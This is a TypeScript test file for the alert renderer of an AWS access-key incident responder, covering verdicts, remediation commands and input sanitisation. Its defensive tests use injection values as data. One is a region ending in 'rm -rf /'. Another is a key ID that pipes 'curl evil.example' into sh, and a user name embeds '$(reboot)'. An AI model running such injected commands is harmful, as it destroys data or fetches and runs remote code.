import { describe, expect, it } from "vitest";
import {
  ALERT_SCHEMA,
  ALERT_VERSION,
  isSettled,
  renderAlerts,
  renderProblemAlert,
  verdictOf,
} from "../../../src/alert/render";
import type { Config } from "../../../src/config";
import type { Finding } from "../../../src/findings";
import { type Outcome, Status } from "../../../src/outcome";
import { type Plan, Skip } from "../../../src/plan/plan";
import { findingOf, testConfig } from "../../support/fixtures";
import {
  cardOf,
  commandLines,
  disabledAlice,
  live,
  manualIdentity,
  NOW,
  outcome,
  planFor,
  renderOne,
  skipPlan,
} from "./outcomes";

const skipped = (fixture: string, config?: Config, overrides: Partial<Finding> = {}): Outcome =>
  outcome(planFor(findingOf(fixture, overrides), config), Status.Skipped);

const skippedAs = (skip: Skip, urgent: boolean, overrides: Partial<Finding> = {}): Outcome =>
  outcome(skipPlan(findingOf("guardduty-iam-user", overrides), skip, urgent), Status.Skipped);

/** Every line of an alert that a person might paste into a shell. */
const shellCommands = (steps: string[]): string[] =>
  steps.filter((step) => /\baws (iam|cloudtrail) /.test(step));

const ALICE_ACTIVE =
  "aws iam update-access-key --user-name alice --access-key-id AKIAALICE00000000001 --status Active";
const ALICE_INACTIVE =
  "aws iam update-access-key --user-name alice --access-key-id AKIAALICE00000000001 --status Inactive";
const IN_OUR_ACCOUNT = "in account 111111111111 (use credentials or a --profile for that account):";

describe("verdictOf", () => {
  it.each([
    ["failed when any key failed", [Status.Failed, Status.Disabled], false, "failed"],
    [
      "action-required when IAM refused with an explicit deny",
      [Status.Protected, Status.Disabled],
      false,
      "action-required",
    ],
    ["contained when a key was disabled", [Status.Disabled, Status.AlreadyDone], false, "contained"],
    ["contained when sessions were revoked", [Status.SessionsRevoked], false, "contained"],
    ["reactivated when a key was reactivated", [Status.Reactivated], false, "reactivated"],
    ["no-action for a repeat", [Status.AlreadyDone], false, "no-action"],
    ["no-action for a key that is gone", [Status.KeyGone], false, "no-action"],
    ["dry-run in a dry run", [Status.DryRun], true, "dry-run"],
    ["failed before dry-run", [Status.Failed], true, "failed"],
  ])("says %s", (_, statuses, dryRun, expected) => {
    const plan = planFor(findingOf("guardduty-iam-user"));

    expect(
      verdictOf(
        statuses.map((status) => outcome(plan, status)),
        dryRun,
      ),
    ).toBe(expected);
  });

  // The rule: a key a finding names that may still be Active after the run always reaches a person.
  it.each([
    [Skip.Sample, "no-action"],
    [Skip.Closed, "no-action"],
    [Skip.BelowThreshold, "action-required"],
    [Skip.UntrustedProduct, "action-required"],
    [Skip.ReactivationRefused, "action-required"],
    [Skip.Responder, "action-required"],
    [Skip.InvalidInput, "action-required"],
    [Skip.Protected, "action-required"],
    [Skip.OtherAccount, "action-required"],
    [Skip.Root, "action-required"],
    [Skip.TemporaryKey, "action-required"],
  ])("gives a %s skip the verdict %s, whatever the plan's urgency", (skip, expected) => {
    for (const urgent of [true, false]) {
      const skippedKey = skippedAs(skip, urgent);

      expect(verdictOf([skippedKey], false)).toBe(expected);
      expect(verdictOf([disabledAlice(), skippedKey], false)).toBe(
        expected === "no-action" ? "contained" : expected,
      );
      expect(renderOne([skippedKey]).document.keys[0]?.urgent).toBe(expected === "action-required");
    }
  });

  it("requires action for a skip even in a dry run, where dry-run outcomes are settled", () => {
    const dry = planFor(findingOf("guardduty-iam-user"), testConfig({ dryRun: true }));

    expect(verdictOf([outcome(dry, Status.DryRun)], true)).toBe("dry-run");
    expect(verdictOf([outcome(dry, Status.DryRun), skipped("guardduty-low-severity")], true)).toBe(
      "action-required",
    );
  });

  it("calls settled only the statuses that leave every key as asked (never approval, protected, failed, skipped, not attempted or interrupted)", () => {
    const plan = planFor(findingOf("guardduty-iam-user"));
    const settled = Object.values(Status).filter((status) => isSettled(outcome(plan, status)));

    expect(settled.sort()).toEqual(
      ["already-done", "disabled", "dry-run", "key-gone", "reactivated", "sessions-revoked"].sort(),
    );
  });
});

describe("renderAlerts", () => {
  it("builds the versioned document for programs with every key's facts", () => {
    const alert = renderOne([disabledAlice()]);

    expect(alert.document).toMatchObject({
      schema: ALERT_SCHEMA,
      version: ALERT_VERSION,
      verdict: "contained",
      dryRun: false,
      source: "guardduty",
      eventId: "6f1d2c84-3b9e-4a57-8c0d-9e2f41a7b365",
      generatedAt: "2026-11-20T09:05:04.000Z",
      keys: [
        {
          accessKeyId: "AKIAALICE00000000001",
          userName: "alice",
          account: "111111111111",
          status: "disabled",
          action: "disable-key",
          urgent: false,
          containedAt: "2026-11-20T09:05:03.000Z",
          finding: {
            id: "3f8a1c0e6b2d4e5f9a7c1b3d5e7f9a2c",
            type: "UnauthorizedAccess:IAMUser/TorIPCaller",
            severity: 5,
            region: "us-east-1",
            firstSeen: "2026-11-20T09:00:00.000Z",
            details: { "Remote IP": "203.0.113.24" },
          },
        },
      ],
    });
    expect(alert.document.part).toBeUndefined();
    expect(ALERT_SCHEMA).toBe("access-key-responder/alert");
    expect(ALERT_VERSION).toBe(1);
  });

  it("renders an event without keys as one alert", () => {
    expect(renderAlerts([], live)).toHaveLength(1);
  });

  it("says the account, then gives the bare reactivation and CloudTrail commands for a disabled key", () => {
    const alert = renderOne([disabledAlice()]);
    const steps = alert.document.keys[0]?.nextSteps ?? [];

    expect(steps).toEqual([
      `Review what the key did ${IN_OUR_ACCOUNT}`,
      "aws cloudtrail lookup-events --lookup-attributes " +
        "AttributeKey=AccessKeyId,AttributeValue=AKIAALICE00000000001 --region us-east-1",
      "Rotate: give the owner a new key, update whatever used the old one, then delete the old key once reviewed.",
      `If this was a false positive, reactivate it ${IN_OUR_ACCOUNT}`,
      ALICE_ACTIVE,
    ]);
    expect(alert.text.split("\n")).toContain(`        ${ALICE_ACTIVE}`);
  });

  it("leaves the region out of the CloudTrail command when the finding's region is not a region", () => {
    const finding = findingOf("guardduty-iam-user", { region: "us-east-1; rm -rf /" });

    const steps = renderOne([outcome(planFor(finding), Status.Disabled)]).document.keys[0]?.nextSteps ?? [];

    expect(steps).toContain(
      "aws cloudtrail lookup-events --lookup-attributes AttributeKey=AccessKeyId,AttributeValue=AKIAALICE00000000001",
    );
  });

  it("names a member account's key's account before the command, never after it", () => {
    const config = testConfig({ memberRoleName: "ResponderMember" });
    const plan = planFor(findingOf("guardduty-member-account"), config);

    const steps = renderOne([outcome(plan, Status.Disabled)]).document.keys[0]?.nextSteps ?? [];
    const reactivate = steps.findIndex((step) => step.endsWith("--status Active"));

    expect(steps[reactivate - 1]).toBe(
      "If this was a false positive, reactivate it in account 222222222222 " +
        "(use credentials or a --profile for that account):",
    );
    expect(steps[reactivate]).toMatch(/^aws iam update-access-key .* --status Active$/);
  });

  it.each([
    ["disabled", () => disabledAlice()],
    ["failed", () => outcome(planFor(findingOf("guardduty-iam-user")), Status.Failed)],
    ["protected", () => outcome(planFor(findingOf("guardduty-iam-user")), Status.Protected)],
    [
      "reactivated",
      () =>
        outcome(planFor(findingOf("manual-reactivate"), testConfig(), manualIdentity()), Status.Reactivated),
    ],
    ["below the threshold", () => skipped("guardduty-low-severity")],
    ["of another account", () => skipped("guardduty-member-account")],
    ["of the root user", () => skipped("guardduty-root")],
    ["with a refused reactivation", () => skippedAs(Skip.ReactivationRefused, true)],
    ["from an untrusted product", () => skippedAs(Skip.UntrustedProduct, true)],
    ["of the responder itself", () => skippedAs(Skip.Responder, true)],
  ])("puts every command of a key %s alone on its line, so that it pastes and runs as is", (_, make) => {
    const sibling = {
      accessKeyId: "AKIAALICE00000000002",
      status: "Active",
      suspicious: true,
      disabled: false,
    };
    const alert = renderOne([{ ...make(), siblings: [sibling] }]);
    const textCommands = commandLines(alert.text.split("\n"));
    const stepCommands = commandLines(alert.document.keys[0]?.nextSteps ?? []);

    expect(textCommands.length).toBeGreaterThan(0);
    for (const line of [...textCommands, ...stepCommands]) {
      expect(line.trim()).toMatch(/^aws (iam|cloudtrail|lambda) [^()]*$/);
      expect(line).not.toContain("(in account");
    }
    for (const step of cardOf(alert).content.nextSteps.filter((s) => s.includes("aws "))) {
      expect(step).toMatch(/^`aws [^`]+`$/);
    }
  });

  it.each([Status.Disabled, Status.Failed, Status.Protected, Status.Reactivated])(
    "never puts an invalid key ID or user name into a shell command of a %s outcome",
    (status) => {
      const finding = findingOf("guardduty-iam-user", {
        accessKeyId: "AKIA'; curl evil.example | sh #",
        userName: "alice$(reboot)",
      });
      const plan: Plan = { ...planFor(findingOf("guardduty-iam-user")), finding, userName: "alice$(reboot)" };

      const alert = renderOne([outcome(plan, status, { userName: "alice$(reboot)" })]);
      const commands = shellCommands(alert.document.keys[0]?.nextSteps ?? []);

      expect(commands.length).toBeGreaterThan(0);
      for (const command of commands) {
        expect(command).not.toContain("curl");
        expect(command).not.toContain("$(reboot)");
        expect(command).toMatch(/<access-key-id>/);
      }
      expect(shellCommands(alert.text.split("\n")).join("\n")).not.toMatch(/curl|\$\(reboot\)/);
    },
  );

  it("gives no shell command at all for the invalid-key fixture", () => {
    const alert = renderOne([skipped("guardduty-invalid-key")]);
    const key = alert.document.keys[0];

    expect(key?.skip).toBe("invalid-input");
    expect(shellCommands(key?.nextSteps ?? [])).toEqual([]);
    expect(shellCommands(alert.text.split("\n"))).toEqual([]);
    expect(alert.document.verdict).toBe("action-required");
  });

  it("tells a person to act on the root user now", () => {
    const alert = renderOne([skipped("guardduty-root")]);

    expect(alert.text).toContain("[ROOT CREDENTIALS - ACT NOW] AKIAROOT000000000001");
    expect(alert.text).toContain(
      "URGENT: sign in as the root user, delete the root access key, change the root password and check MFA.",
    );
    expect(alert.document.keys[0]).toMatchObject({ urgent: true, skip: "root", action: "none" });
    expect(alert.subject.startsWith("ACTION REQUIRED:")).toBe(true);
  });

  it("explains how to revoke a role's sessions for a temporary key", () => {
    const alert = renderOne([skipped("guardduty-assumed-role")]);

    expect(alert.text).toContain("[TEMPORARY KEY - ACT NOW] ASIAROLE000000000001");
    expect(alert.document.keys[0]?.nextSteps[0]).toContain(
      "IAM console: Roles > web-instance-role > Revoke active sessions",
    );
    expect(alert.text).toContain("REVOKE_SESSIONS=true");
  });

  it("says a sample needs no action", () => {
    const alert = renderOne([skipped("guardduty-sample")]);

    expect(alert.text).toContain("[SAMPLE]");
    expect(alert.document.verdict).toBe("no-action");
    expect(alert.subject.startsWith("No action needed:")).toBe(true);
  });

  it("marks a finding below the threshold for a person, with the command to disable the key by hand", () => {
    const alert = renderOne([skipped("guardduty-low-severity")]);
    const steps = alert.document.keys[0]?.nextSteps ?? [];

    expect(alert.text).toContain("[BELOW THRESHOLD - NOT CHANGED] AKIAALICE00000000001 - user alice");
    expect(alert.document.verdict).toBe("action-required");
    expect(alert.subject.startsWith("ACTION REQUIRED:")).toBe(true);
    expect(steps).toEqual([
      `Review the finding. The key is still Active; to disable it now ${IN_OUR_ACCOUNT}`,
      ALICE_INACTIVE,
    ]);
  });

  it("says which account a key of another account is in and why it was not changed", () => {
    const alert = renderOne([skipped("guardduty-member-account")]);

    expect(alert.text).toContain(
      "[OTHER ACCOUNT - NOT CHANGED] AKIAERIN000000000001 - user erin - account 222222222222",
    );
    expect(alert.text).toContain("no member role is configured to act there");
    expect(alert.document.keys[0]?.nextSteps).toEqual([
      "Disable it in account 222222222222 (use credentials or a --profile for that account):",
      expect.stringMatching(
        /^aws iam update-access-key .*--access-key-id AKIAERIN000000000001 --status Inactive$/,
      ),
      "Or deploy the member role to that account and set MEMBER_ROLE_NAME.",
    ]);
  });

  it.each([
    ["below the threshold", "guardduty-low-severity", "alice", undefined],
    ["of another account", "guardduty-member-account", "erin", undefined],
    ["of a protected user", "guardduty-protected-user", "breakglass-admin", ["breakglass-admin"]],
  ])("fills the named user into the by-hand command for a key %s", (_, fixture, user, protectedUsers) => {
    const config = testConfig({ protectedUsers: protectedUsers ?? [] });

    const steps = renderOne([skipped(fixture, config)]).document.keys[0]?.nextSteps ?? [];

    expect(shellCommands(steps).some((step) => step.includes(`--user-name ${user} `))).toBe(true);
  });

  it("says a protected user's key was not changed and a person must decide", () => {
    const alert = renderOne([
      skipped("guardduty-protected-user", testConfig({ protectedUsers: ["breakglass-admin"] })),
    ]);

    expect(alert.text).toContain("[PROTECTED - NOT CHANGED] AKIABREAKGLASS000001");
    expect(alert.document.verdict).toBe("action-required");
  });

  it("gives each key possibly created by the attacker its own command to disable it", () => {
    const alert = renderOne([
      disabledAlice({
        siblings: [
          {
            accessKeyId: "AKIAALICE00000000002",
            status: "Active",
            created: "2026-11-20T09:02:00.000Z",
            suspicious: true,
            disabled: false,
          },
          {
            accessKeyId: "AKIAALICE00000000003",
            status: "Active",
            created: "2025-01-01T00:00:00.000Z",
            suspicious: false,
            disabled: false,
          },
        ],
      }),
    ]);
    const steps = alert.document.keys[0]?.nextSteps ?? [];

    expect(alert.text).toContain(
      "Other key AKIAALICE00000000002 (Active, created 2026-11-20T09:02:00.000Z) - created after the finding was " +
        "first seen: possibly created by the attacker",
    );
    const sibling = steps.indexOf(
      "aws iam update-access-key --user-name alice --access-key-id AKIAALICE00000000002 --status Inactive",
    );
    expect(sibling).toBeGreaterThan(0);
    expect(steps[sibling - 1]).toBe(
      "Key AKIAALICE00000000002 was created after the finding was first seen and may be the attacker's. " +
        `Unless its owner knows it, disable it ${IN_OUR_ACCOUNT}`,
    );
    expect(steps.join("\n")).not.toContain("AKIAALICE00000000003");
  });

  it("gives no command for a sibling the responder already disabled", () => {
    const alert = renderOne([
      disabledAlice({
        siblings: [
          { accessKeyId: "AKIAALICE00000000002", status: "Inactive", suspicious: true, disabled: true },
        ],
      }),
    ]);

    expect(alert.document.keys[0]?.nextSteps.join("\n")).not.toContain("AKIAALICE00000000002");
  });

  it("tells how to disable the key by hand when containment failed", () => {
    const alert = renderOne([
      outcome(planFor(findingOf("guardduty-iam-user")), Status.Failed, { error: "AccessDenied: no" }),
    ]);

    expect(alert.document.verdict).toBe("failed");
    expect(alert.document.keys[0]?.urgent).toBe(true);
    expect(alert.document.keys[0]?.nextSteps.slice(0, 2)).toEqual([
      `Disable the key by hand now ${IN_OUR_ACCOUNT}`,
      ALICE_INACTIVE,
    ]);
    expect(alert.text).toContain("  Error:    AccessDenied: no");
  });

  it("gives the command to disable a reactivated key again", () => {
    const plan = planFor(findingOf("manual-reactivate"), testConfig(), manualIdentity());

    const alert = renderOne([outcome(plan, Status.Reactivated)]);

    expect(alert.document.keys[0]?.nextSteps).toEqual([
      `To disable it again ${IN_OUR_ACCOUNT}`,
      "aws iam update-access-key --user-name ivan --access-key-id AKIAIVAN000000000001 --status Inactive",
    ]);
    expect(alert.text).toContain(
      "Reason:   False positive: key belongs to the CI test fixture (ticket SEC-1043)",
    );
  });

  it("says who asked for a manual request, in the text, the document and the chat card", () => {
    const finding = findingOf("manual-disable", { requestedBy: "carol (ticket SEC-2001)" });

    const alert = renderOne([outcome(planFor(finding), Status.Disabled)]);

    expect(alert.text.split("\n")).toContain("  Asked by: carol (ticket SEC-2001)");
    expect(alert.document.keys[0]?.finding.requestedBy).toBe("carol (ticket SEC-2001)");
    expect(cardOf(alert).content.description).toContain("asked by carol \\(ticket SEC-2001\\)");
  });

  it("says nothing of who asked when nobody is named", () => {
    const alert = renderOne([outcome(planFor(findingOf("manual-disable")), Status.Disabled)]);

    expect(alert.text).not.toContain("Asked by");
    expect(cardOf(alert).content.description).not.toContain("asked by");
  });

  it("says whom the event named when the key belongs to someone else", () => {
    const alert = renderOne([disabledAlice({ namedUser: "alicia" })]);

    expect(alert.text.split("\n")).toContain("  Owner:    the event named alicia; the key belongs to alice");
    expect(alert.document.keys[0]).toMatchObject({ userName: "alice", namedUser: "alicia" });
    expect(cardOf(alert).content.description).toContain("(alice)");
    expect(cardOf(alert).content.description).toContain("the event named alicia");
  });

  it("names the product of a finding AWS did not make, and changes nothing", () => {
    const product = "arn:aws:securityhub:us-east-1:333333333333:product/333333333333/default";

    const alert = renderOne([skipped("security-hub-custom-product")]);

    expect(alert.text).toContain("[UNTRUSTED SOURCE - NOT CHANGED] AKIAGRACE00000000001");
    expect(alert.text.split("\n")).toContain(`  Product:  ${product} (not made by AWS)`);
    expect(alert.document.keys[0]?.nextSteps[0]).toContain(
      `The finding was imported by ${product}, not made by AWS`,
    );
    expect(alert.document.keys[0]?.finding.provenance).toEqual({ product, aws: false });
    expect(cardOf(alert).content.description).toContain(`from product ${product}, not made by AWS`);
    expect(alert.attributes.outcome).toBe("action-required");
  });

  it("notes a finding a person closed, with no step and no verdict for a person", () => {
    const alert = renderOne([skipped("security-hub-archived")]);

    expect(alert.text).toContain("[CLOSED] AKIAGRACE00000000001");
    expect(alert.text.split("\n")).toContain("  Closed:   RecordState is ARCHIVED, not ACTIVE");
    expect(alert.document.keys[0]?.nextSteps).toEqual([]);
    expect(alert.document.verdict).toBe("no-action");
  });

  it("refuses a relayed reactivation and says how to ask the manual function directly", () => {
    const finding = findingOf("manual-reactivate", { viaSns: true });
    const plan = planFor(finding, testConfig(), manualIdentity());
    const alert = renderOne([outcome(plan, Status.Skipped)]);
    const steps = alert.document.keys[0]?.nextSteps ?? [];

    expect(plan.skip).toBe("reactivation-refused");
    expect(alert.text).toContain("[REACTIVATION REFUSED] AKIAIVAN000000000001");
    expect(alert.document.verdict).toBe("action-required");
    expect(steps.join("\n")).toContain(
      "only a request sent directly to the manual function may set a key Active",
    );
    const invoke = steps.find((step) => step.startsWith("aws lambda invoke"));
    expect(invoke).toContain("--function-name access-key-responder-<stage>-manual");
    const payload = /--payload '([^']*)'/.exec(invoke ?? "")?.[1] ?? "{}";
    expect(JSON.parse(payload)).toMatchObject({
      accessKeyId: "AKIAIVAN000000000001",
      userName: "ivan",
      status: "Active",
      reason: expect.any(String),
    });
  });

  it("tells a person to act now on the responder's own credentials", () => {
    const alert = renderOne([skippedAs(Skip.Responder, true)]);

    expect(alert.text).toContain("[RESPONDER ITSELF - ACT NOW] AKIAALICE00000000001");
    expect(alert.document.keys[0]?.nextSteps[0]).toMatch(/^URGENT: the finding is about the responder's own/);
    expect(alert.document.keys[0]?.nextSteps).toContain(ALICE_INACTIVE);
    expect(alert.subject.startsWith("ACTION REQUIRED:")).toBe(true);
  });

  it("says nothing was changed in a dry run", () => {
    const plan = planFor(findingOf("guardduty-iam-user"), testConfig({ dryRun: true }));

    const alert = renderOne([outcome(plan, Status.DryRun)], { dryRun: true, now: NOW });

    expect(alert.document).toMatchObject({ verdict: "dry-run", dryRun: true });
    expect(alert.text).toContain("access-key-responder: Dry run (DRY RUN: no change was made)");
    expect(alert.subject.startsWith("Dry run:")).toBe(true);
    // The way out of a dry run names the mode setting, not only the old flag.
    expect(alert.document.keys[0]?.nextSteps.join(" ")).toContain("mode=contain (RESPONDER_MODE)");
  });

  it("keeps the subject under 100 printable ASCII characters on one line", () => {
    const finding = findingOf("guardduty-iam-user", {
      type: `Exfiltration:IAMUser/${"Ünïcödé\n".repeat(30)}`,
      userName: "alice",
    });
    const alert = renderOne([outcome(planFor(finding), Status.Disabled)]);

    expect(alert.subject.length).toBeLessThanOrEqual(99);
    expect(alert.subject).toMatch(/^[\x20-\x7e]+$/);
    expect(alert.subject.startsWith("Contained: AKIAALICE00000000001 (alice) - Exfiltration:IAMUser/")).toBe(
      true,
    );
  });

  it("names the first key and how many more in the subject, and counts the keys by label", () => {
    const [bob, carol] = ["AKIABOB0000000000001", "AKIACAROL00000000001"].map((accessKeyId) =>
      outcome(planFor(findingOf("health-credentials-compromised", { accessKeyId })), Status.Disabled),
    );

    const alert = renderOne([bob as Outcome, carol as Outcome, skipped("guardduty-sample")]);

    expect(alert.subject).toBe("Contained: AKIABOB0000000000001 +2 more - AWS_RISK_CREDENTIALS_COMPROMISED");
    expect(alert.document.keys).toHaveLength(3);
    expect(alert.text.split("\n")).toContain("Keys: 3 - 2 DISABLED, 1 SAMPLE");
  });

  it("sets the outcome, highest severity, accounts and source as attributes", () => {
    const low = skipped("guardduty-low-severity");
    const member = skipped("guardduty-member-account");

    const alert = renderOne([disabledAlice(), low, member]);

    expect(alert.attributes).toEqual({
      outcome: "action-required",
      severity: "5",
      account: "111111111111,222222222222",
      source: "guardduty",
    });
  });

  it('says "none" and "unknown" when no severity or account is known', () => {
    const plan = planFor(findingOf("health-credentials-compromised"), testConfig());
    const unknownAccount = { ...plan, account: undefined };

    const alert = renderOne([outcome(unknownAccount, Status.Disabled)]);

    expect(alert.attributes).toEqual({
      outcome: "contained",
      severity: "none",
      account: "unknown",
      source: "health",
    });
  });
});

describe("renderProblemAlert", () => {
  it("tells a person an event could not be read and that nothing was changed", () => {
    const alert = renderProblemAlert(
      {
        source: "guardduty",
        eventId: "a7d24f9b-3c6e-4b10-8f5a-e09b7c2d1e64",
        reason: "GuardDuty event has no detail",
      },
      live,
    );

    expect(alert.subject).toBe("Could not act on guardduty event a7d24f9b-3c6e-4b10-8f5a-e09b7c2d1e64");
    expect(alert.document).toEqual({
      schema: "access-key-responder/alert",
      version: 1,
      verdict: "invalid",
      dryRun: false,
      source: "guardduty",
      eventId: "a7d24f9b-3c6e-4b10-8f5a-e09b7c2d1e64",
      generatedAt: "2026-11-20T09:05:04.000Z",
      keys: [],
      problem: "GuardDuty event has no detail",
    });
    expect(alert.text).toContain("Could not act on event - no change was made");
    expect(alert.text).toContain("Problem: GuardDuty event has no detail");
    expect(cardOf(alert).content.description).toBe(
      "Could not act on the event: GuardDuty event has no detail",
    );
    expect(alert.attributes).toEqual({
      outcome: "invalid",
      severity: "none",
      account: "unknown",
      source: "guardduty",
    });
  });

  it("clips a long problem and keeps the subject within limits without a source", () => {
    const alert = renderProblemAlert({ eventId: "e".repeat(200), reason: "x".repeat(5000) }, live);

    expect(alert.document.problem?.length).toBeLessThan(1100);
    expect(alert.subject.length).toBeLessThanOrEqual(99);
    expect(alert.subject.startsWith("Could not act on an event")).toBe(true);
    expect(alert.attributes.source).toBe("unknown");
  });
});
